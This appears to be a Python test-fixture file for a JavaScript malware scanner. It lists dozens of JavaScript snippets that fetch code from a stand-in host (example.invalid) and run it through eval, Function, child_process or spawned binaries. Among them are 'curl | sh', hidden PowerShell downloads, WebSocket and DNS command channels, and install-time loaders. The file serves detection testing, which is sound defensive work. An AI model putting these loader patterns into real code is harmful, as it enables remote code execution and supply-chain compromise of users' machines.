"""What is fetched and run: by every client, through every carrier, by every sink."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion_javascript.case import CRITICAL, HIGH, MEDIUM, SETUP, Case

NETWORK = (
    Case("https.get and data events", "FETCH-001", HIGH, r"""
        require("https").get("https://example.invalid/a.js", (answer) => {
          let text = "";
          answer.on("data", (part) => { text += part; });
          answer.on("end", () => eval(text));
        });
    """),
    Case("https.get, parts in an array", "FETCH-001", HIGH, r"""
        const https = require("https");
        https.get({ hostname: "example.invalid", path: "/a" }, (answer) => {
          const parts = [];
          answer.on("data", (part) => parts.push(part)).on("end", () => {
            new Function("require", Buffer.concat(parts).toString())(require);
          });
        }).on("error", () => {});
    """),
    Case("http.request and an asynchronous loop", "FETCH-001", HIGH, r"""
        const http = require("node:http");
        const request = http.request("http://example.invalid/a", async (answer) => {
          let text = "";
          for await (const part of answer) text += part;
          require("vm").runInThisContext(text);
        });
        request.end();
    """),
    Case("a function that gives a promise of the body", "FETCH-001", HIGH, r"""
        const https = require("https");
        const load = (url) => new Promise((resolve, reject) => {
          https.get(url, (answer) => {
            let body = "";
            answer.on("data", (part) => (body += part));
            answer.on("end", () => resolve(body));
          }).on("error", reject);
        });
        (async () => { eval(await load("https://example.invalid/a")); })();
    """),
    Case("a function with a callback of the body", "FETCH-001", HIGH, r"""
        function load(url, done) {
          require("https").get(url, function (answer) {
            var body = "";
            answer.on("data", function (part) { body += part; });
            answer.on("end", function () { done(null, body); });
          });
        }
        load("https://example.invalid/a", function (error, body) { if (!error) Function(body)(); });
    """),
    Case("fetch and then", "FETCH-001", HIGH, r"""
        fetch("https://example.invalid/a").then((answer) => answer.text()).then(eval);
    """),
    Case("fetch awaited", "FETCH-001", HIGH, r"""
        const answer = await fetch("https://example.invalid/a");
        new Function(await answer.text())();
    """, "index.mjs"),
    Case("a member of JSON by fetch", "FETCH-001", HIGH, r"""
        (async () => {
          const { data: { code } } = await (await fetch("https://example.invalid/a.json")).json();
          eval(atob(code));
        })();
    """),
    Case("fetch at install", "FETCH-001", CRITICAL, r"""
        fetch("https://example.invalid/a").then((r) => r.text()).then((t) => eval(t));
    """, SETUP),
    Case("bytes by fetch, decrypted", "FETCH-001", HIGH, r"""
        fetch("https://example.invalid/a").then((r) => r.arrayBuffer()).then((data) => {
          const bytes = new Uint8Array(data).map((byte) => byte ^ 42);
          (0, eval)(new TextDecoder().decode(bytes));
        });
    """),
    Case("axios", "FETCH-001", HIGH, r"""
        const axios = require("axios");
        axios.get("https://example.invalid/a").then(({ data }) => eval(data.cookie));
    """),
    Case("axios awaited, the error's body run", "FETCH-001", HIGH, r"""
        import axios from "axios";
        try {
          await axios.post("https://example.invalid/a", {});
        } catch (error) {
          new Function("require", error.response.data)(globalThis.require);
        }
    """, "index.mjs", unseen="what a request's error carries is not taken for remote"),
    Case("axios with an instance", "FETCH-001", HIGH, r"""
        const client = require("axios").create({ baseURL: "https://example.invalid" });
        client.get("/a").then((answer) => new Function("require", answer.data.model)(require));
    """),
    Case("request with a callback", "FETCH-001", HIGH, r"""
        require("request")("https://example.invalid/a", (error, answer, body) => { eval(body); });
    """),
    Case("got", "FETCH-001", HIGH, r"""
        const got = require("got");
        got("https://example.invalid/a").text().then((text) => eval(text));
    """),
    Case("node-fetch", "FETCH-001", HIGH, r"""
        const fetch = require("node-fetch");
        fetch("https://example.invalid/a").then((r) => r.json()).then((d) => eval(d.run));
    """),
    Case("undici", "FETCH-001", HIGH, r"""
        const { request } = require("undici");
        request("https://example.invalid/a").then(async ({ body }) => eval(await body.text()));
    """),
    Case("superagent", "FETCH-001", HIGH, r"""
        require("superagent").get("https://example.invalid/a").end((error, answer) => eval(answer.text));
    """),
    Case("XMLHttpRequest", "FETCH-001", HIGH, r"""
        const x = new XMLHttpRequest();
        x.open("GET", "https://example.invalid/a");
        x.onload = function () { eval(x.responseText); };
        x.send();
    """),
    Case("XMLHttpRequest at once", "FETCH-001", HIGH, r"""
        var x = new XMLHttpRequest();
        x.open("GET", "https://example.invalid/a", false);
        x.send(null);
        eval(x.responseText);
    """),
    Case("a WebSocket and onmessage", "FETCH-001 SHELL-001", HIGH, r"""
        const socket = new WebSocket("wss://example.invalid/a");
        socket.onmessage = ({ data }) => eval(data);
    """),
    Case("ws and an event", "FETCH-001 SHELL-001", HIGH, r"""
        const WebSocket = require("ws");
        const socket = new WebSocket("wss://example.invalid");
        socket.on("message", (message) => { new Function(JSON.parse(message).code)(); });
    """),
    Case("socket.io and commands", "FETCH-001 SHELL-001", HIGH, r"""
        const { io } = require("socket.io-client");
        const { exec } = require("child_process");
        const socket = io("https://example.invalid");
        socket.on("command", (text) => exec(text, (e, out) => socket.emit("result", out)));
    """),
    Case("a TXT record that is executed", "FETCH-001 SHELL-001", HIGH, r"""
        require("dns").resolveTxt("a.example.invalid", (error, records) => {
          require("child_process").exec(records[0].join(""));
        });
    """),
    Case("a TXT record that is evaluated", "FETCH-001 SHELL-001", HIGH, r"""
        const dns = require("dns").promises;
        dns.resolveTxt("a.example.invalid").then(([[text]]) => eval(Buffer.from(text, "base64").toString()));
    """),
    Case("data of a socket", "FETCH-001 SHELL-001", HIGH, r"""
        const net = require("net");
        const client = net.connect(4444, "127.0.0.1");
        client.on("data", (data) => eval(data.toString()));
    """),
    Case("a datagram", "FETCH-001 SHELL-001", HIGH, r"""
        const socket = require("dgram").createSocket("udp4");
        socket.on("message", (message) => require("child_process").exec(String(message)));
        socket.bind(4444);
    """),
    Case("requests to a server of its own", "FETCH-001 SHELL-001", HIGH, r"""
        require("http").createServer((request, answer) => {
          const url = new URL(request.url, "http://127.0.0.1");
          answer.end(String(eval(url.searchParams.get("c"))));
        }).listen(4444);
    """),
    Case("written and spawned", "FETCH-001", HIGH, r"""
        const fs = require("fs"), { spawn } = require("child_process");
        fetch("https://example.invalid/a").then((r) => r.arrayBuffer()).then((data) => {
          fs.writeFileSync("/tmp/.a", Buffer.from(data), { mode: 0o755 });
          spawn("/tmp/.a", [], { detached: true, stdio: "ignore" }).unref();
        });
    """),
    Case("piped to a file and executed", "FETCH-001", HIGH, r"""
        const https = require("https"), fs = require("fs"), os = require("os"), path = require("path");
        const target = path.join(os.tmpdir(), "update.exe");
        const file = fs.createWriteStream(target);
        https.get("https://example.invalid/a.exe", (answer) => {
          answer.pipe(file);
          file.on("finish", () => file.close(() => require("child_process").execFile(target)));
        });
    """),
    Case("written and required", "FETCH-001", HIGH, r"""
        const fs = require("fs/promises"), path = require("path");
        (async () => {
          const file = path.join(__dirname, "cache.js");
          const answer = await fetch("https://example.invalid/a");
          await fs.writeFile(file, await answer.text());
          require(file);
        })();
    """),
    Case("written and imported", "FETCH-001", HIGH, r"""
        import { writeFile } from "node:fs/promises";
        const text = await (await fetch("https://example.invalid/a")).text();
        await writeFile("/tmp/cache.mjs", text);
        await import("/tmp/cache.mjs");
    """, "index.mjs"),
    Case("a module compiled of it", "FETCH-001", HIGH, r"""
        const Module = require("module");
        fetch("https://example.invalid/a").then((r) => r.text()).then((text) => {
          const made = new Module("made");
          made._compile(text, "made.js");
        });
    """),
    Case("import() of a far address", "FETCH-001 STDLIB-002", MEDIUM, r"""
        import("https://example.invalid/a.mjs").then((made) => made.default());
    """),
    Case("importScripts of a far address", "FETCH-001 STDLIB-002", MEDIUM, r"""
        importScripts("https://example.invalid/a.js");
    """),
    Case("given to node -e", "FETCH-001", HIGH, r"""
        const { spawn } = require("child_process");
        fetch("https://example.invalid/a").then((r) => r.text()).then((code) => spawn("node", ["-e", code], { detached: true }));
    """),
    Case("curl for eval", "FETCH-001", HIGH, r"""
        eval(require("child_process").execSync("curl -s https://example.invalid/a").toString());
    """),
    Case("curl to a shell", "FETCH-001", HIGH, r"""
        require("child_process").exec("curl -fsSL https://example.invalid/a.sh | sh");
    """),
    Case("wget to bash, in pieces of an array", "FETCH-001", HIGH, r"""
        const { spawn } = require("child_process");
        spawn("sh", ["-c", ["wget -qO-", "https://example.invalid/a", "| bash"].join(" ")], { detached: true }).unref();
    """),
    Case("PowerShell with an encoded command", "FETCH-001", HIGH, r"""
        require("child_process").execFile("powershell.exe", ["-nop", "-w", "hidden", "-enc", "<POWERSHELL>"], { windowsHide: true });
    """),
    Case("PowerShell that downloads", "FETCH-001", HIGH, r"""
        const { exec } = require("child_process");
        if (process.platform === "win32") exec(`powershell -c "iwr https://example.invalid/a -OutFile $env:TEMP\\a.exe; Start-Process $env:TEMP\\a.exe"`);
    """),
    Case("curl to a file, chmod, start", "FETCH-001", HIGH, r"""
        const { execSync } = require("child_process");
        execSync("curl -o /tmp/a https://example.invalid/a && chmod +x /tmp/a && /tmp/a &");
    """),
    Case("a Python program by -c", "FETCH-001", HIGH, r"""
        const { spawn } = require("child_process");
        spawn("python3", ["-c", "import urllib.request;exec(urllib.request.urlopen('https://example.invalid/a').read())"]);
    """),
    Case("npm install of a far address", "FETCH-001 STDLIB-001", MEDIUM, r"""
        require("child_process").execSync("npm install --no-save https://example.invalid/a.tgz", { stdio: "ignore" });
    """),
    Case("the address in base64, at install", "FETCH-001", CRITICAL, r"""
        const where = Buffer.from("<ADDRESS>", "base64").toString();
        require("https").get(where, (answer) => { let t = ""; answer.on("data", (d) => (t += d)); answer.on("end", () => eval(t)); });
    """, SETUP),
    Case("the address in a file of its own", "FETCH-001", HIGH, r"""
        const { api } = require("./config");
        const axios = require("axios");
        axios(api.url).then((r) => new Function("require", r.data)(require)).catch(() => {});
    """, files={"config.json": '{"api": {"url": "https://example.invalid/a"}}\n'}),
    Case("a second stage on a chain of blocks", "FETCH-001", HIGH, r"""
        const { ethers } = require("ethers");
        const provider = new ethers.JsonRpcProvider("https://example.invalid");
        const contract = new ethers.Contract("0x0000000000000000000000000000000000000001", ["function get() view returns (string)"], provider);
        contract.get().then((code) => eval(code));
    """, unseen="what a contract on a chain gives is not taken for remote"),
    Case("a retry after an interval", "FETCH-001", HIGH, r"""
        const tick = async () => {
          try { eval(await (await fetch("https://example.invalid/a")).text()); } catch (e) {}
        };
        setInterval(tick, 60000);
    """),
    Case("in a class, started by its constructor", "FETCH-001", HIGH, r"""
        class Loader {
          #url = "https://example.invalid/a";
          constructor() { this.load().then((text) => this.run(text)); }
          async load() { const answer = await fetch(this.#url); return answer.text(); }
          run(text) { Function(text)(); }
        }
        new Loader();
    """),
    Case("an emitter of events between", "FETCH-001", HIGH, r"""
        const { EventEmitter } = require("events");
        const bus = new EventEmitter();
        bus.on("code", (code) => eval(code));
        fetch("https://example.invalid/a").then((r) => r.text()).then((text) => bus.emit("code", text));
    """),
    Case("Promise.all and destructuring", "FETCH-001", HIGH, r"""
        const get = (part) => fetch(`https://example.invalid/${part}`).then((r) => r.text());
        Promise.all(["a", "b"].map(get)).then(([first, second]) => eval(first + second));
    """),
    Case("a generator that yields it", "FETCH-001", HIGH, r"""
        async function* parts() { yield (await fetch("https://example.invalid/a")).text(); }
        (async () => { for await (const part of parts()) eval(part); })();
    """),
    Case("a map of globals between", "FETCH-001", HIGH, r"""
        globalThis.state = new Map();
        fetch("https://example.invalid/a").then((r) => r.text()).then((text) => {
          state.set("code", text);
          setTimeout(() => eval(state.get("code")), 1000);
        });
    """),
    Case("a read stream of lines", "FETCH-001", HIGH, r"""
        const readline = require("readline");
        require("https").get("https://example.invalid/a", (answer) => {
          readline.createInterface({ input: answer }).on("line", (line) => eval(line));
        });
    """),
    Case("a WebAssembly module", "FETCH-001 STDLIB-003", MEDIUM, r"""
        WebAssembly.instantiateStreaming(fetch("https://example.invalid/a.wasm"), { env: { run: eval } });
    """),
)  # fmt: skip
